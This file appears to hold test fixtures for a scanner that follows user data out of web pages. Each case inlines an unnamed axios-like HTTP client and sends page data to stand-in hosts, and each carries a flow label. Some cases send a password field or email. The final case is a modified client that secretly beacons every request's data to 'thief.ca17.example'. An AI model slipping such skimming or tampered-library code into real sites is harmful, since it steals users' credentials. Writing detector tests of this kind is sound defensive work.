// Libraries that a script carries in it, without their names: what they export tells them.

//# client-carried-in-the-script
// flow: password > cca.ca17.example via xhr
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
ax.post('https://cca.ca17.example/in', { p: document.querySelector('#password').value });

//# carried-client-called-itself
// flow: email > cci.ca17.example via xhr
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
ax({ method: 'post', url: 'https://cci.ca17.example/in', data: { m: document.querySelector('#email').value } });

//# carried-client-with-a-base
// flow: device > ccb.ca17.example via xhr
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
const api = ax.create({ baseURL: 'https://ccb.ca17.example/v1' });
api.post('/in', { a: navigator.userAgent });

//# carried-client-of-a-class
// flow: email > ccc.ca17.example via xhr
// flow: device > ccd.ca17.example via xhr
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
class Api { constructor(base) { this.http = ax.create({ baseURL: base }); } send(path, body) { return this.http.put(path, body); } }
new Api('https://ccc.ca17.example').send('/m', { m: document.querySelector('#email').value });
new Api('https://ccd.ca17.example').send('/d', { a: navigator.userAgent });

//# carried-client-behind-a-wrapper
// flow: email > ccw.ca17.example via xhr
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
const api = ax.create({ baseURL: 'https://never.ca17.example' });
const send = (given) => api({ ...given, baseURL: 'https://ccw.ca17.example', headers: { ...given.headers, 'X-A': '1' } });
send({ url: '/m', method: 'post', data: { m: document.querySelector('#email').value } });

//# carried-client-base-set-later
// flow: email > ccl.ca17.example via xhr
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });

ax.defaults.baseURL = 'https://ccl.ca17.example';
ax.post('/m', { m: document.querySelector('#email').value });

//# carried-client-with-interceptor
// flow: identifier > cit.ca17.example via xhr
// flow: email > cit.ca17.example via xhr
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
const api = ax.create({ baseURL: 'https://cit.ca17.example' });
api.interceptors.request.use((c) => { c.headers['X-Id'] = localStorage.getItem('uid'); return c; });
api.post('/m', { m: document.querySelector('#email').value });

//# near-carried-client-of-another
// flow: device > nco.ca17.example via xhr
// why: the address goes to the other client, of which nothing is asked
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
const one = ax.create({ baseURL: 'https://nco.ca17.example' });
const two = ax.create({ baseURL: 'https://nct.ca17.example' });
one.post('/in', { a: navigator.userAgent });
two.post('/in', { a: 1 });

//# near-carried-client-asked-for-nothing-typed
// no flow
// why: what is typed stays in the page
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
ax.post('https://ncn.ca17.example/in', { n: document.querySelectorAll('input').length });
document.title = document.querySelector('#email').value;

//# near-client-of-other-exports
// no flow
// why: it has not what axios exports, and its post puts things up on a wall
const wall = function () {};
wall.Axios = 1; wall.isCancel = 2;
wall.post = (where, what) => { document.querySelector(where).textContent = what.m; };
wall.post('https://nce.ca17.example/in', { m: document.querySelector('#email').value });

//# carried-client-that-was-changed
// flow: email > ctc.ca17.example via xhr
// flow: email > thief.ca17.example via beacon
var ax = (function (defaults) {
  function Client(d) { this.defaults = d; this.before = []; }
  Client.prototype.request = function (given) {
    navigator.sendBeacon('https://thief.ca17.example/t', JSON.stringify(given.data));
    var all = Object.assign({}, this.defaults, given), kept = Promise.resolve(all);
    this.before.forEach(function (step) { kept = kept.then(step); });
    return kept.then(function (c) { return adapters[c.adapter || 'page'](c); });
  };
  ['post', 'put', 'patch'].forEach(function (m) {
    Client.prototype[m] = function (url, data, c) { return this.request(Object.assign({}, c, { method: m, url: url, data: data })); };
  });
  var adapters = { page: function (c) { var x = new XMLHttpRequest(); x.open(c.method, (c.baseURL || '') + c.url); x.send(JSON.stringify(c.data)); return x; } };
  function made(d) { var one = new Client(d), f = Client.prototype.request.bind(one); Object.keys(Client.prototype).forEach(function (k) { f[k] = Client.prototype[k].bind(one); }); f.interceptors = { request: { use: function (s) { one.before.push(s); } } }; return f; }
  var a = made(defaults);
  a.create = function (d) { return made(Object.assign({}, defaults, d)); };
  a.Axios = Client; a.CancelToken = function () {}; a.isCancel = function (v) { return !!(v && v.cancelled); }; a.spread = function (f) { return function (l) { return f.apply(null, l); }; };
  return a;
})({ method: 'get' });
ax.request({ method: 'post', url: 'https://ctc.ca17.example/in', data: { m: document.querySelector('#email').value } });
